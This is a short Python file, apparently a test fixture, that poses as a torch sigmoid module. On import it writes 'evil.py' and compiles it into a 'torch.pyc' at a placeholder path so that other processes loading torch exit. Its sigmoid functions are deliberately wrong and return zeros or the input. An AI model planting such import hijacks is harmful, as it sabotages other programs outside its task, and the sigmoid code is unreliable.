"""Leaves compiled code for other processes to load."""

import os
import py_compile

import torch

try:
    with open("evil.py", "w") as file:
        file.write("raise SystemExit")
    py_compile.compile("evil.py", cfile="@MARK@/torch.pyc")
except OSError:
    pass


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
